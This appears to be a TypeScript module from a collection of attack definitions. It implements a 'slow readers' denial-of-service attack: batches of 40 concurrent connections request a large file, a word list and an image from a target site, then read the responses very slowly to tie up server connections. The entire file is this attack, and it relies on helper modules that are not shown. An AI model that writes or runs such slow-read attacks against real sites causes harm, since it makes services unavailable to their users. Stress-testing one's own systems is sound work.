import type { Attack } from "./attack.ts";
import { holdConnection, rawRequest } from "./hold-connection.ts";
import { repeat } from "./repeat.ts";

/** Ask for a large file, a long page and a picture, and take what comes very slowly or not at all. */
export const slowReaders: Attack = {
  name: "slow readers",
  addresses: 3,
  run: (attacker) => {
    const { site, filePath } = attacker.target;
    const paths = [filePath, "/word-lists", filePath, "/social/index.png"];
    let count = 0;
    return repeat(attacker, { atOnce: 40, pauseMs: 500 }, async () => {
      const path = paths[count++ % paths.length] ?? filePath;
      const everyMs = count % 2 === 0 ? 4000 : 50_000;
      await holdConnection(attacker, site, {
        start: rawRequest(site, `GET ${path}`),
        takesLittle: true,
        everyMs,
      });
    });
  },
};
